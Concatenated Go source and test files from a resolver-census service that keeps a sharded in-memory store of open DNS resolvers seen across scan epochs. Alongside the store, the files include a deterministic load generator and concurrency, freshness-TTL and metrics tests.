	}
	snap := reg.Snapshot()
	if snap.Counter("svc.lookup.refresh") != 1 || snap.Counter("svc.lookup.hit") != 0 {
		t.Fatalf("refresh=%d hit=%d after stale lookup", snap.Counter("svc.lookup.refresh"), snap.Counter("svc.lookup.hit"))
	}
	// The probe stamped fresh evidence: the next lookup hits.
	res, err = svc.Lookup(ctx, 7)
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != "store" {
		t.Fatalf("refreshed record still stale: %+v", res)
	}
	// A stable record (no flaps) never refreshes no matter the age.
	mustApply(5, add(9, dnswire.RCodeNoError))
	for e := 6; e < 20; e++ {
		mustApply(e)
	}
	res, err = svc.Lookup(ctx, 9)
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != "store" {
		t.Fatalf("stable record refreshed: %+v", res)
	}
}

// TestServiceZeroEpochs is the service-level empty-series regression: a
// zero-epoch run must come up serving (probe-only), not panic on the
// empty weekly series.
func TestServiceZeroEpochs(t *testing.T) {
	reg := metrics.New()
	tw := newTestWorld(t, 14, reg)
	svc := New(Config{Order: 14, ScanSeed: 0x5EED, Epochs: 0, Blacklist: tw.bl}, tw.deps)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if err := svc.Run(ctx); err != nil {
		t.Fatalf("zero-epoch Run: %v", err)
	}
	if svc.Store().Epoch() != -1 || svc.Store().Records() != 0 {
		t.Fatalf("zero-epoch store: epoch=%d records=%d", svc.Store().Epoch(), svc.Store().Records())
	}
	ser := svc.Series()
	if ser.First() != nil || ser.Last() != nil {
		t.Fatal("zero-epoch series has endpoints")
	}
	// Lookups still work: everything is a demand probe.
	res, err := svc.Lookup(ctx, 3)
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != "probe" || res.Epoch != -1 {
		t.Fatalf("zero-epoch lookup: %+v", res)
	}
}

// TestServiceDeterministicMetrics pins the StripTiming contract: two
// identical runs (same world seed, same epochs, same sequential lookup
// script) must export byte-identical deterministic-class snapshots,
// with every request-path counter confined to the Timing class.
func TestServiceDeterministicMetrics(t *testing.T) {
	stripped := func() []byte {
		reg := metrics.New()
		svc, _ := runService(t, 14, 3, reg)
		ctx := context.Background()
		// A deterministic lookup script: every store record once.
		for _, r := range svc.Store().List(false, 0) {
			if _, err := svc.Lookup(ctx, r.Addr); err != nil {
				t.Fatal(err)
			}
		}
		var buf bytes.Buffer
		if err := reg.Snapshot().StripTiming().WriteJSON(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	a, b := stripped(), stripped()
	if !bytes.Equal(a, b) {
		t.Fatalf("deterministic snapshots differ:\n--- run 1 ---\n%s\n--- run 2 ---\n%s", a, b)
	}
	// The request-path counters must be Timing class (stripped), since
	// their values depend on request arrival vs epoch commits.
	if bytes.Contains(a, []byte("svc.lookup.hit")) || bytes.Contains(a, []byte("svc.epoch.lag")) {
		t.Fatal("request-path metrics leaked into the deterministic snapshot")
	}
	// The epoch-side state must be present and deterministic.
	for _, name := range []string{"svc.epoch.done", "svc.store.records", "svc.store.open"} {
		if !bytes.Contains(a, []byte(name)) {
			t.Fatalf("deterministic snapshot missing %s:\n%s", name, a)
		}
	}
}

// TestServiceLookupCancelled proves a lookup parked on the coalescer
// honors its context instead of hanging when no probe ever completes.
func TestServiceLookupCancelled(t *testing.T) {
	gate := &gateClock{release: make(chan struct{})}
	defer close(gate.release)
	svc := New(Config{Order: 12, BatchWindow: time.Millisecond}, Deps{
		Locator:   testLoc,
		WallClock: gate,
	})
	runCtx, cancelRun := context.WithCancel(context.Background())
	defer cancelRun()
	go svc.coalesce(runCtx)

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := svc.Lookup(ctx, 42)
		done <- err
	}()
	cancel()
	select {
	case err := <-done:
		if err != context.Canceled {
			t.Fatalf("cancelled lookup returned %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("cancelled lookup hung")
	}
}
