package resolvesvc

import (
	"sync"
	"testing"

	"goingwild/internal/dnswire"
	"goingwild/internal/geodb"
	"goingwild/internal/scanner"
)

func testLoc(u uint32) (string, geodb.RIR) { return "US", geodb.ARIN }

func add(addr uint32, rcode dnswire.RCode) scanner.ResponderDelta {
	return scanner.ResponderDelta{Op: scanner.DeltaAdd, Responder: scanner.Responder{Addr: addr, Source: addr, RCode: rcode, Answered: true}}
}

func update(addr uint32, rcode dnswire.RCode) scanner.ResponderDelta {
	return scanner.ResponderDelta{Op: scanner.DeltaUpdate, Responder: scanner.Responder{Addr: addr, Source: addr, RCode: rcode, Answered: true}}
}

func remove(addr uint32) scanner.ResponderDelta {
	return scanner.ResponderDelta{Op: scanner.DeltaRemove, Responder: scanner.Responder{Addr: addr, Source: addr}}
}

func TestStoreApplyEpochLifecycle(t *testing.T) {
	s := NewStore(8)
	if s.Epoch() != -1 {
		t.Fatalf("fresh store epoch = %d, want -1", s.Epoch())
	}

	// Epoch 0: two targets appear.
	if err := s.ApplyEpoch(0, []scanner.ResponderDelta{add(10, dnswire.RCodeNoError), add(20, dnswire.RCodeRefused)}, testLoc); err != nil {
		t.Fatal(err)
	}
	if s.Epoch() != 0 || s.Records() != 2 || s.OpenCount() != 2 {
		t.Fatalf("after epoch 0: epoch=%d records=%d open=%d", s.Epoch(), s.Records(), s.OpenCount())
	}
	r, ok := s.Get(10)
	if !ok || !r.Open || r.FirstSeen != 0 || r.LastSeen != 0 || r.Flaps != 0 || r.Country != "US" {
		t.Fatalf("record 10 after epoch 0: %+v", r)
	}

	// Epoch 1: 10 changes rcode, 20 vanishes.
	if err := s.ApplyEpoch(1, []scanner.ResponderDelta{update(10, dnswire.RCodeRefused), remove(20)}, testLoc); err != nil {
		t.Fatal(err)
	}
	if s.Records() != 2 || s.OpenCount() != 1 {
		t.Fatalf("after epoch 1: records=%d open=%d", s.Records(), s.OpenCount())
	}
	r, _ = s.Get(10)
	if r.RCode != dnswire.RCodeRefused || r.LastSeen != 1 {
		t.Fatalf("record 10 after update: %+v", r)
	}
	r, _ = s.Get(20)
	if r.Open || r.LastSeen != 0 || r.Checked != 1 {
		t.Fatalf("record 20 after remove: %+v", r)
	}

	// Epoch 2: 20 reappears — that's one flap.
	if err := s.ApplyEpoch(2, []scanner.ResponderDelta{add(20, dnswire.RCodeNoError)}, testLoc); err != nil {
		t.Fatal(err)
	}
	r, _ = s.Get(20)
	if !r.Open || r.Flaps != 1 || r.FirstSeen != 0 || r.LastSeen != 2 {
		t.Fatalf("record 20 after flap: %+v", r)
	}
	if s.OpenCount() != 2 {
		t.Fatalf("open after flap = %d, want 2", s.OpenCount())
	}
}

func TestStoreApplyEpochContractViolations(t *testing.T) {
	s := NewStore(0)
	if err := s.ApplyEpoch(0, []scanner.ResponderDelta{add(5, dnswire.RCodeNoError)}, testLoc); err != nil {
		t.Fatal(err)
	}
	// Add of a present open target is producer drift.
	if err := s.ApplyEpoch(1, []scanner.ResponderDelta{add(5, dnswire.RCodeNoError)}, testLoc); err == nil {
		t.Error("add of present open target did not error")
	}
	// Update/remove of unknown targets likewise.
	if err := s.ApplyEpoch(1, []scanner.ResponderDelta{update(99, dnswire.RCodeNoError)}, testLoc); err == nil {
		t.Error("update of unknown target did not error")
	}
	if err := s.ApplyEpoch(1, []scanner.ResponderDelta{remove(99)}, testLoc); err == nil {
		t.Error("remove of unknown target did not error")
	}
}

func TestStoreRecordProbe(t *testing.T) {
	s := NewStore(8)
	if err := s.ApplyEpoch(0, []scanner.ResponderDelta{add(10, dnswire.RCodeNoError)}, testLoc); err != nil {
		t.Fatal(err)
	}

	// A probe-born record for a never-swept target.
	r := s.RecordProbe(77, 0, false, 0, false, testLoc)
	if r.FirstSeen != NeverSeen || r.Open || !r.Probed || r.ProbedAt != 0 {
		t.Fatalf("probe-born record: %+v", r)
	}
	if s.Records() != 2 || s.OpenCount() != 1 {
		t.Fatalf("after probe-born record: records=%d open=%d", s.Records(), s.OpenCount())
	}

	// A probe refreshing a sweep record keeps the longitudinal fields.
	r = s.RecordProbe(10, 3, true, dnswire.RCodeRefused, false, testLoc)
	if r.FirstSeen != 0 || r.LastSeen != 0 || r.ProbedAt != 3 || !r.Probed || r.RCode != dnswire.RCodeRefused {
		t.Fatalf("probe-refreshed record: %+v", r)
	}

	// A probe observing a sweep-open target gone dark flips the open count.
	r = s.RecordProbe(10, 4, false, 0, false, testLoc)
	if r.Open || s.OpenCount() != 0 {
		t.Fatalf("probe-darkened record: %+v open=%d", r, s.OpenCount())
	}

	// The next sweep add of the probe-darkened target is legal (the probe
	// overlay does not count as sweep presence) and counts the flap... no:
	// the target never left the sweep view, so an update is what arrives.
	if err := s.ApplyEpoch(1, []scanner.ResponderDelta{update(10, dnswire.RCodeNoError)}, testLoc); err != nil {
		t.Fatal(err)
	}
	r, _ = s.Get(10)
	if !r.Open || r.Probed || r.Flaps != 0 {
		t.Fatalf("sweep-reconfirmed record: %+v", r)
	}
}

func TestStoreFreshTTL(t *testing.T) {
	s := NewStore(8)
	stable := Record{Flaps: 0, Checked: 0}
	if !s.Fresh(stable, 1000) {
		t.Error("stable record went stale")
	}
	// One flap: TTL 8>>1 = 4 epochs since last evidence.
	flappy := Record{Flaps: 1, Checked: 10, ProbedAt: NeverSeen}
	if !s.Fresh(flappy, 13) {
		t.Error("once-flapped record stale within TTL")
	}
	if s.Fresh(flappy, 14) {
		t.Error("once-flapped record fresh past TTL")
	}
	// A demand probe is evidence too.
	flappy.ProbedAt = 12
	if !s.Fresh(flappy, 15) {
		t.Error("probe-refreshed record stale within TTL")
	}
	// Heavy flappers expire after one epoch (TTL floor).
	thrash := Record{Flaps: 9, Checked: 10}
	if !s.Fresh(thrash, 10) || s.Fresh(thrash, 11) {
		t.Error("heavy flapper TTL floor broken")
	}
}

// TestStoreConcurrentLookupsVsEpochApply is the race-stress test: readers
// hammer Get/List while a writer commits epoch after epoch. Under
// -race this proves the per-stripe transactions keep lookups and
// epoch-apply from touching records unsynchronized; the assertions prove
// no reader ever observes a torn record (a record newer than the
// published epoch floor is legal; an inconsistent one is not).
func TestStoreConcurrentLookupsVsEpochApply(t *testing.T) {
	const (
		targets = 512
		epochs  = 50
		readers = 4
	)
	s := NewStore(8)
	stopCh := make(chan struct{})
	var wg sync.WaitGroup
	for r := 0; r < readers; r++ {
		wg.Add(1)
		go func(r int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stopCh:
					return
				default:
				}
				addr := uint32(i%targets + 1)
				if rec, ok := s.Get(addr); ok {
					// Torn-record check: sweep evidence must be coherent.
					if rec.Addr != addr {
						t.Errorf("record for %d carries addr %d", addr, rec.Addr)
						return
					}
					if rec.FirstSeen > rec.LastSeen || rec.Checked < rec.LastSeen {
						t.Errorf("incoherent record: %+v", rec)
						return
					}
				}
				if i%64 == 0 {
					s.List(true, 8)
				}
			}
		}(r)
	}

	// The writer: even epochs add/update everything, odd epochs remove
	// half, exercising every delta op against live readers.
	for e := 0; e < epochs; e++ {
		var deltas []scanner.ResponderDelta
		for a := uint32(1); a <= targets; a++ {
			switch {
			case e == 0:
				deltas = append(deltas, add(a, dnswire.RCodeNoError))
			case e%2 == 1 && a%2 == 0:
				deltas = append(deltas, remove(a))
			case e%2 == 0 && a%2 == 0:
				deltas = append(deltas, add(a, dnswire.RCodeNoError))
			case a%2 == 1:
				deltas = append(deltas, update(a, dnswire.RCodeRefused))
			}
		}
		if err := s.ApplyEpoch(e, deltas, testLoc); err != nil {
			t.Fatalf("epoch %d: %v", e, err)
		}
	}
	close(stopCh)
	wg.Wait()

	if s.Epoch() != epochs-1 {
		t.Fatalf("final epoch = %d, want %d", s.Epoch(), epochs-1)
	}
	if s.Records() != targets {
		t.Fatalf("records = %d, want %d", s.Records(), targets)
	}
	// Odd-addressed targets flapped never; even-addressed ones flapped
	// every other epoch.
	r, _ := s.Get(1)
	if r.Flaps != 0 {
		t.Errorf("stable target flaps = %d, want 0", r.Flaps)
	}
	r, _ = s.Get(2)
	if want := (epochs - 1) / 2; r.Flaps != want {
		t.Errorf("flappy target flaps = %d, want %d", r.Flaps, want)
	}
}

func TestStoreList(t *testing.T) {
	s := NewStore(0)
	var deltas []scanner.ResponderDelta
	for a := uint32(1); a <= 20; a++ {
		deltas = append(deltas, add(a, dnswire.RCodeNoError))
	}
	if err := s.ApplyEpoch(0, deltas, testLoc); err != nil {
		t.Fatal(err)
	}
	if err := s.ApplyEpoch(1, []scanner.ResponderDelta{remove(5), remove(6)}, testLoc); err != nil {
		t.Fatal(err)
	}
	all := s.List(false, 0)
	if len(all) != 20 {
		t.Fatalf("List(all) = %d records, want 20", len(all))
	}
	for i := 1; i < len(all); i++ {
		if all[i-1].Addr >= all[i].Addr {
			t.Fatalf("List not sorted at %d: %v >= %v", i, all[i-1].Addr, all[i].Addr)
		}
	}
	open := s.List(true, 0)
	if len(open) != 18 {
		t.Fatalf("List(open) = %d records, want 18", len(open))
	}
	if lim := s.List(false, 7); len(lim) != 7 {
		t.Fatalf("List(limit 7) = %d records", len(lim))
	}
}

func TestShardOfSpread(t *testing.T) {
	// The multiplicative hash must spread sequential addresses across
	// stripes (sequential keys all landing in one stripe would serialize
	// the hot path).
	seen := map[uint32]int{}
	for a := uint32(0); a < 4096; a++ {
		si := shardOf(a)
		if si >= nShards {
			t.Fatalf("shardOf(%d) = %d out of range", a, si)
		}
		seen[si]++
	}
	if len(seen) < nShards/2 {
		t.Errorf("sequential addresses hit only %d/%d stripes", len(seen), nShards)
	}
	for si, n := range seen {
		if n > 4096/nShards*4 {
			t.Errorf("stripe %d got %d of 4096 sequential keys", si, n)
		}
	}
}

func TestStoreEpochPublishOrder(t *testing.T) {
	// Epoch() is a floor: it must not advance before all stripes commit.
	// Serial proof: after ApplyEpoch returns, every delta is visible at
	// the published epoch.
	s := NewStore(0)
	for e := 0; e < 5; e++ {
		var deltas []scanner.ResponderDelta
		for a := uint32(1); a <= 64; a++ {
			if e == 0 {
				deltas = append(deltas, add(a, dnswire.RCodeNoError))
			} else {
				deltas = append(deltas, update(a, dnswire.RCodeNoError))
			}
		}
		if err := s.ApplyEpoch(e, deltas, testLoc); err != nil {
			t.Fatal(err)
		}
		for a := uint32(1); a <= 64; a++ {
			r, ok := s.Get(a)
			if !ok || r.Checked != s.Epoch() {
				t.Fatalf("epoch %d: record %d not at published epoch: %+v", e, a, r)
			}
		}
	}
}

func BenchmarkStoreGet(b *testing.B) {
	s := NewStore(0)
	var deltas []scanner.ResponderDelta
	for a := uint32(1); a <= 4096; a++ {
		deltas = append(deltas, add(a, dnswire.RCodeNoError))
	}
	if err := s.ApplyEpoch(0, deltas, testLoc); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		var i uint32
		for pb.Next() {
			i++
			if _, ok := s.Get(i%4096 + 1); !ok {
				b.Fatal("miss")
			}
		}
	})
}
