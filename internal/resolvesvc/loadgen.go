package resolvesvc

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"
)

// LoadGenConfig parameterizes the deterministic lookup storm.
type LoadGenConfig struct {
	// Workers is the number of concurrent lookup goroutines (default 8).
	Workers int
	// Lookups is the total timed lookups across workers (default 2M).
	Lookups int
	// ColdTargets is how many never-seen addresses the coalescing burst
	// hammers (default 8); ColdFanout is how many concurrent lookups
	// land on each (default 8), so the burst proves misses coalesce.
	ColdTargets int
	// ColdFanout is the concurrent lookups per cold target.
	ColdFanout int
}

func (c *LoadGenConfig) fill() {
	if c.Workers <= 0 {
		c.Workers = 8
	}
	if c.Lookups <= 0 {
		c.Lookups = 2_000_000
	}
	if c.ColdTargets <= 0 {
		c.ColdTargets = 8
	}
	if c.ColdFanout <= 0 {
		c.ColdFanout = 8
	}
}

// BenchServeReport is BENCH_serve.json's shape: the serving-path
// throughput and tail-latency evidence. Counts are deterministic for a
// given storm; the timing fields are wall-clock measurements.
type BenchServeReport struct {
	Order       uint    `json:"order"`
	Epochs      int     `json:"epochs"`
	Records     int     `json:"records"`
	OpenCount   int     `json:"open"`
	Workers     int     `json:"workers"`
	Lookups     int     `json:"lookups"`
	Hits        uint64  `json:"hits"`
	Misses      uint64  `json:"misses"`
	Refreshes   uint64  `json:"refreshes"`
	Coalesced   uint64  `json:"coalesced"`
	Probes      uint64  `json:"probes"`
	ElapsedNs   int64   `json:"elapsed_ns"`
	LookupsPerS float64 `json:"lookups_per_sec"`
	P50Ns       int64   `json:"p50_ns"`
	P99Ns       int64   `json:"p99_ns"`
	MaxNs       int64   `json:"max_ns"`
}

// RunLoadGen measures the serving path after the epoch loop has
// committed its final epoch. Three phases:
//
//  1. Warmup: every store record (plus nothing else) is looked up once
//     sequentially, so churn-triggered refresh probes all happen before
//     the clock starts and the timed storm exercises the pure in-memory
//     path.
//  2. Storm: Workers goroutines issue Lookups total lookups over a
//     deterministic per-worker address sequence (a seeded LCG over the
//     record pool), timing each call.
//  3. Cold burst: ColdFanout concurrent lookups land on each of
//     ColdTargets never-seen addresses, proving misses coalesce into
//     single demand probes.
//
// The address mix is a pure function of (worker, index), so two storms
// over the same store issue identical lookup sequences; only the timing
// fields vary run to run.
func (s *Service) RunLoadGen(ctx context.Context, cfg LoadGenConfig) (*BenchServeReport, error) {
	cfg.fill()
	clock := s.deps.WallClock
	records := s.store.List(false, 0)
	if len(records) == 0 {
		return nil, errors.New("resolvesvc: loadgen needs a populated store (run epochs first)")
	}
	pool := make([]uint32, len(records))
	for i, r := range records {
		pool[i] = r.Addr
	}

	// Phase 1: warmup.
	for _, a := range pool {
		if _, err := s.Lookup(ctx, a); err != nil {
			return nil, fmt.Errorf("resolvesvc: warmup lookup %08x: %w", a, err)
		}
	}

	// Phase 2: the timed hit storm.
	hit0, refresh0 := s.m.hit.Value(), s.m.refresh.Value()
	perWorker := cfg.Lookups / cfg.Workers
	total := perWorker * cfg.Workers
	lat := make([][]int64, cfg.Workers)
	errs := make([]error, cfg.Workers)
	var wg sync.WaitGroup
	start := clock.Now()
	for w := 0; w < cfg.Workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			ds := make([]int64, perWorker)
			seq := uint64(w)*0x9E3779B97F4A7C15 + 1
			for i := 0; i < perWorker; i++ {
				seq = seq*6364136223846793005 + 1442695040888963407
				addr := pool[seq%uint64(len(pool))]
				t0 := clock.Now()
				if _, err := s.Lookup(ctx, addr); err != nil {
					errs[w] = err
					return
				}
				ds[i] = clock.Now().Sub(t0).Nanoseconds()
			}
			lat[w] = ds
		}(w)
	}
	wg.Wait()
	elapsed := clock.Now().Sub(start)
	for _, err := range errs {
		if err != nil {
			return nil, fmt.Errorf("resolvesvc: storm lookup: %w", err)
		}
	}

	// Phase 3: the coalescing burst on never-seen targets. The burst's
	// counters are windowed so the report's miss/coalesced/probe fields
	// describe this phase alone.
	hits := s.m.hit.Value() - hit0
	refreshes := s.m.refresh.Value() - refresh0
	miss0, coal0, probe0 := s.m.miss.Value(), s.m.coalesced.Value(), s.m.probes.Value()
	cold := s.coldTargets(cfg.ColdTargets)
	for _, a := range cold {
		var bw sync.WaitGroup
		burstErrs := make([]error, cfg.ColdFanout)
		for f := 0; f < cfg.ColdFanout; f++ {
			bw.Add(1)
			go func(f int) {
				defer bw.Done()
				_, burstErrs[f] = s.Lookup(ctx, a)
			}(f)
		}
		bw.Wait()
		for _, err := range burstErrs {
			if err != nil {
				return nil, fmt.Errorf("resolvesvc: cold burst lookup %08x: %w", a, err)
			}
		}
	}

	all := make([]int64, 0, total)
	for _, ds := range lat {
		all = append(all, ds...)
	}
	sort.Slice(all, func(i, j int) bool { return all[i] < all[j] })
	rep := &BenchServeReport{
		Order:     s.cfg.Order,
		Epochs:    s.cfg.Epochs,
		Records:   s.store.Records(),
		OpenCount: s.store.OpenCount(),
		Workers:   cfg.Workers,
		Lookups:   total,
		Hits:      hits,
		Refreshes: refreshes,
		Misses:    s.m.miss.Value() - miss0,
		Coalesced: s.m.coalesced.Value() - coal0,
		Probes:    s.m.probes.Value() - probe0,
		ElapsedNs: elapsed.Nanoseconds(),
	}
	if sec := elapsed.Seconds(); sec > 0 {
		rep.LookupsPerS = float64(total) / sec
	}
	if len(all) > 0 {
		rep.P50Ns = all[len(all)/2]
		rep.P99Ns = all[len(all)*99/100]
		rep.MaxNs = all[len(all)-1]
	}
	return rep, nil
}

// coldTargets picks n in-space addresses the store has never heard of,
// scanning upward from address 1 (deterministic for a given store).
func (s *Service) coldTargets(n int) []uint32 {
	out := make([]uint32, 0, n)
	space := uint32(1) << s.cfg.Order
	for a := uint32(1); a < space && len(out) < n; a++ {
		if _, ok := s.store.Get(a); !ok {
			out = append(out, a)
		}
	}
	return out
}
