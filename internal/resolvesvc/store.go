// Package resolvesvc is the long-running resolver-intelligence service
// behind cmd/wildsvc: it consumes the streaming epoch engine's delta
// batches into a sharded in-memory result store and answers point
// queries — "is this IP an open resolver? what rcode/country/RIR?
// first/last seen?" — at memory speed, falling back to coalesced
// on-demand probes for targets the store cannot vouch for. It is the
// ZDNS-shaped product layer over the measurement stack: the scanner
// keeps sweeping the (virtual) Internet epoch after epoch, and the
// service turns the resulting knowledge into a high-concurrency lookup
// API.
package resolvesvc

import (
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"goingwild/internal/churn"
	"goingwild/internal/dnswire"
	"goingwild/internal/geodb"
	"goingwild/internal/scanner"
)

// nShards stripes the store 64 ways, the same trick (and the same
// multiplicative hash) as the scanner's sharded collectors: concurrent
// lookups contend only when they land on the same stripe, and the
// epoch-apply writer locks one stripe at a time instead of the world.
const nShards = 64

const shardShift = 32 - 6 // log2(nShards) == 6

// shardOf maps a target address to its stripe (Knuth multiplicative
// hash, top bits).
func shardOf(key uint32) uint32 {
	return key * 2654435761 >> shardShift
}

// NeverSeen is the epoch value of Record fields that have no sweep
// evidence yet (a record created by a demand probe for a target no
// sweep has observed answering).
const NeverSeen = -1

// Record is the store's knowledge about one target address. Sweep
// evidence (the epoch delta stream) and demand-probe evidence update
// disjoint aspects: sweeps own the longitudinal fields (FirstSeen,
// LastSeen, Flaps), probes only refresh the current state (Open, RCode,
// Answered) and stamp ProbedAt.
type Record struct {
	// Addr is the target address.
	Addr uint32
	// Open reports whether the target currently answers DNS probes —
	// an "open resolver" in the paper's census sense.
	Open bool
	// RCode and Answered mirror scanner.Responder for open targets.
	RCode    dnswire.RCode
	Answered bool
	// Country and RIR come from the geographic registry, resolved once
	// when the record is created.
	Country string
	RIR     geodb.RIR
	// FirstSeen and LastSeen are the first and most recent epochs a
	// sweep observed the target answering (NeverSeen when no sweep ever
	// has).
	FirstSeen int
	LastSeen  int
	// Flaps counts sweep-observed disappear-then-reappear transitions;
	// it drives the churn-aware refresh TTL (flappier targets expire
	// sooner).
	Flaps int
	// Checked is the last epoch whose delta batch touched this record.
	Checked int
	// ProbedAt is the epoch of the last demand-probe confirmation
	// (NeverSeen if none); Probed marks that the current Open/RCode
	// state came from that probe rather than a sweep.
	ProbedAt int
	Probed   bool
}

// storeShard is one stripe: an RWMutex-guarded map plus padding so
// neighboring stripe locks do not false-share.
type storeShard struct {
	mu sync.RWMutex
	m  map[uint32]Record
	_  [32]byte
}

// Store is the sharded in-memory result store. Lookups (Get) take one
// stripe read-lock; ApplyEpoch commits a whole epoch delta batch
// transactionally per stripe — a reader sees each record either wholly
// before or wholly after the epoch, never torn, and the published
// Epoch() only advances once every stripe has committed (so Epoch() is
// a floor: records can be newer than it mid-commit, never older).
type Store struct {
	shards  [nShards]storeShard
	epoch   atomic.Int64 // last fully committed epoch; -1 before the first
	records atomic.Int64 // total records (sweep- and probe-created)
	open    atomic.Int64 // records with Open == true
	ttlBase int
}

// DefaultTTLBase is the refresh TTL (in epochs) a once-flapped record
// starts from; each further flap halves it (minimum one epoch).
const DefaultTTLBase = 8

// NewStore builds an empty store. ttlBase <= 0 selects DefaultTTLBase.
func NewStore(ttlBase int) *Store {
	if ttlBase <= 0 {
		ttlBase = DefaultTTLBase
	}
	s := &Store{ttlBase: ttlBase}
	s.epoch.Store(-1)
	for i := range s.shards {
		s.shards[i].m = make(map[uint32]Record)
	}
	return s
}

// Epoch returns the last fully committed epoch (-1 before the first).
func (s *Store) Epoch() int { return int(s.epoch.Load()) }

// Records returns the total record count.
func (s *Store) Records() int { return int(s.records.Load()) }

// OpenCount returns how many records are currently open resolvers.
func (s *Store) OpenCount() int { return int(s.open.Load()) }

// Get returns the record for addr under one stripe read-lock.
func (s *Store) Get(addr uint32) (Record, bool) {
	sh := &s.shards[shardOf(addr)]
	sh.mu.RLock()
	r, ok := sh.m[addr]
	sh.mu.RUnlock()
	return r, ok
}

// Fresh reports whether r can be served without a refresh probe at the
// given committed epoch. Stable records (no observed flaps) are always
// fresh: the sweep re-covers the whole space every epoch, so their
// state is implicitly confirmed by every commit. Flappy records expire
// after ttlBase>>Flaps epochs (minimum one) without fresh evidence —
// either a delta touching them or a demand probe — and a stale lookup
// takes the coalesced probe path to re-confirm them. This is the
// churn-aware refresh cadence: the flappier the churn tracker has seen
// a target be, the shorter the service trusts its last observation.
func (s *Store) Fresh(r Record, epoch int) bool {
	if r.Flaps == 0 {
		return true
	}
	shift := r.Flaps
	if shift > 30 {
		shift = 30
	}
	ttl := s.ttlBase >> uint(shift)
	if ttl < 1 {
		ttl = 1
	}
	evidence := r.Checked
	if r.ProbedAt > evidence {
		evidence = r.ProbedAt
	}
	return epoch-evidence < ttl
}

// ApplyEpoch commits one epoch's delta batch. Deltas are bucketed per
// stripe and each stripe is updated under one write-lock acquisition
// (the per-stripe transaction); the store's epoch advances only after
// every stripe has committed. The batch must follow the stream
// contract (sorted, adds for absent targets, updates/removes for
// present ones); a violation aborts with an error before the epoch is
// published, because it means the producer and the store have drifted.
func (s *Store) ApplyEpoch(epoch int, deltas []scanner.ResponderDelta, loc churn.Locator) error {
	var buckets [nShards][]scanner.ResponderDelta
	for _, d := range deltas {
		si := shardOf(d.Addr())
		buckets[si] = append(buckets[si], d)
	}
	var addedRecords, addedOpen int64
	for si := range buckets {
		if len(buckets[si]) == 0 {
			continue
		}
		sh := &s.shards[si]
		sh.mu.Lock()
		for _, d := range buckets[si] {
			addr := d.Addr()
			r, exists := sh.m[addr]
			switch d.Op {
			case scanner.DeltaAdd:
				if exists && r.Open && !r.Probed {
					sh.mu.Unlock()
					return fmt.Errorf("resolvesvc: epoch %d add of open target %08x", epoch, addr)
				}
				if !exists {
					country, rir := loc(addr)
					r = Record{Addr: addr, Country: country, RIR: rir, FirstSeen: NeverSeen, LastSeen: NeverSeen, ProbedAt: NeverSeen}
					addedRecords++
				}
				if !r.Open {
					addedOpen++
				}
				if r.FirstSeen == NeverSeen {
					r.FirstSeen = epoch
				} else {
					// An add for a target with sweep history means the
					// sweep saw it vanish and now reappear: one flap.
					// (Probe-born records have no sweep history and don't
					// count; sweeps own Flaps.)
					r.Flaps++
				}
				r.Open = true
				r.RCode = d.Responder.RCode
				r.Answered = d.Responder.Answered
				r.LastSeen = epoch
				r.Checked = epoch
				r.Probed = false
			case scanner.DeltaUpdate:
				if !exists || r.FirstSeen == NeverSeen {
					sh.mu.Unlock()
					return fmt.Errorf("resolvesvc: epoch %d update of unknown target %08x", epoch, addr)
				}
				if !r.Open {
					addedOpen++
				}
				r.Open = true
				r.RCode = d.Responder.RCode
				r.Answered = d.Responder.Answered
				r.LastSeen = epoch
				r.Checked = epoch
				r.Probed = false
			case scanner.DeltaRemove:
				if !exists || r.FirstSeen == NeverSeen {
					sh.mu.Unlock()
					return fmt.Errorf("resolvesvc: epoch %d remove of unknown target %08x", epoch, addr)
				}
				if r.Open {
					addedOpen--
				}
				r.Open = false
				r.Checked = epoch
				r.Probed = false
			default:
				sh.mu.Unlock()
				return fmt.Errorf("resolvesvc: epoch %d unknown delta op %d", epoch, d.Op)
			}
			sh.m[addr] = r
		}
		sh.mu.Unlock()
	}
	s.records.Add(addedRecords)
	s.open.Add(addedOpen)
	s.epoch.Store(int64(epoch))
	return nil
}

// RecordProbe folds one demand-probe observation into the store: the
// current state (Open/RCode/Answered) is refreshed and stamped, the
// sweep-owned longitudinal fields are left alone. A target no sweep
// ever observed gets a probe-born record with FirstSeen == NeverSeen,
// so repeated queries for the same silent address are served from
// memory instead of re-probing every time.
func (s *Store) RecordProbe(addr uint32, epoch int, open bool, rcode dnswire.RCode, answered bool, loc churn.Locator) Record {
	sh := &s.shards[shardOf(addr)]
	sh.mu.Lock()
	r, exists := sh.m[addr]
	if !exists {
		country, rir := loc(addr)
		r = Record{Addr: addr, Country: country, RIR: rir, FirstSeen: NeverSeen, LastSeen: NeverSeen, ProbedAt: NeverSeen}
		s.records.Add(1)
	}
	if open != r.Open {
		if open {
			s.open.Add(1)
		} else {
			s.open.Add(-1)
		}
	}
	r.Open = open
	if open {
		r.RCode = rcode
		r.Answered = answered
	}
	r.ProbedAt = epoch
	r.Probed = true
	sh.m[addr] = r
	sh.mu.Unlock()
	return r
}

// List returns up to limit records sorted by address (limit <= 0 means
// all); openOnly filters to current open resolvers. It walks every
// stripe under read-locks and is meant for status endpoints and the
// load generator, not the lookup hot path.
func (s *Store) List(openOnly bool, limit int) []Record {
	out := make([]Record, 0, s.Records())
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		for _, r := range sh.m {
			if openOnly && !r.Open {
				continue
			}
			out = append(out, r)
		}
		sh.mu.RUnlock()
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Addr < out[j].Addr })
	if limit > 0 && len(out) > limit {
		out = out[:limit]
	}
	return out
}
