package resolvesvc

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
	"goingwild/internal/metrics"
	"goingwild/internal/scanner"
)

